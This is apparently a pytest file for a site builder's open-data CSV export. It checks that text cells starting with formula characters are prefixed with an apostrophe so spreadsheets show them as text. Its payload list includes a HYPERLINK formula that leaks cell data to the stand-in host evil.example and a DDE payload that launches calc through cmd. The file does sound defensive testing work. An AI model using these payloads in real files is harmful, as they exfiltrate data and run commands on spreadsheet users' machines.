"""Open-data CSV: text a spreadsheet would evaluate is written so it is shown instead."""

from __future__ import annotations

import csv
import io

import pytest

from site_builder.render.opendata import _csv, spreadsheet_text

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+2", "-2+3", "=1+1", "\t=1+1", "\r=1+1", "-", "+86 25 8888 8888"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("text", ["雨花台区", "025-8888 8888", "9:00-17:00", "a=b", "",
                                  "https://example.gov.cn/", "'=already"])
def test_other_text_is_written_as_it_is(text: str) -> None:
    assert spreadsheet_text(text) == text


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_numbers_we_write_stay_numbers_and_text_like_numbers_is_neutralised() -> None:
    # A negative number in a numeric column is a value, not a formula; the same characters
    # as an editor's text get the apostrophe like any other text.
    data = _csv(["lat", "members", "phone"], [[-3, -3.5, "-3"], [31.9, 12, "=1+1"]])
    assert _rows(data) == [["lat", "members", "phone"], ["-3", "-3.5", "'-3"],
                           ["31.9", "12", "'=1+1"]]
